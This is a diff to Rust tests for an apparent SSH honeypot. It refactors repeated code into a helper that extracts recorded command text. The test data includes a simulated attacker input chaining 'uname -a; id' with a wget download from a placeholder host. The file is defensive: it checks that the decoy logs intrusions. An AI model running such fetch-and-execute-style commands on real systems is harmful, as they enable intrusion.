@@ -59,6 +59,14 @@ fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
     events.iter().filter(|e| e["kind"] == kind).collect()
 }
 
+/// The `details.<key>` text of every `kind` event, in order.
+fn texts(events: &[Value], kind: &str, key: &str) -> Vec<String> {
+    of_kind(events, kind)
+        .iter()
+        .map(|e| e["details"][key].as_str().unwrap_or_default().to_owned())
+        .collect()
+}
+
 #[test]
 fn wrong_password_is_denied_and_recorded() {
     let d = Decky::serve("ssh", None);
@@ -124,15 +132,7 @@ fn accepted_login_runs_commands_and_records_urls() {
         exec[0]["details"]["command"],
         "uname -a; id; wget http://example.invalid/x.sh"
     );
-    let cmds: Vec<_> = of_kind(&ev, "command")
-        .iter()
-        .map(|e| {
-            e["details"]["command"]
-                .as_str()
-                .unwrap_or_default()
-                .to_owned()
-        })
-        .collect();
+    let cmds: Vec<_> = texts(&ev, "command", "command");
     assert_eq!(cmds, ["uname -a", "id", "wget http://example.invalid/x.sh"]);
     let urls = of_kind(&ev, "url");
     assert_eq!(urls.len(), 1);
@@ -384,15 +384,7 @@ expect eof
     let out = expect(&dir, &script);
     assert!(out.contains("Welcome to Ubuntu 22.04.3 LTS"), "{out}");
     let ev = d.session_events();
-    let cmds: Vec<_> = of_kind(&ev, "command")
-        .iter()
-        .map(|e| {
-            e["details"]["command"]
-                .as_str()
-                .unwrap_or_default()
-                .to_owned()
-        })
-        .collect();
+    let cmds: Vec<_> = texts(&ev, "command", "command");
     assert_eq!(
         cmds,
         [
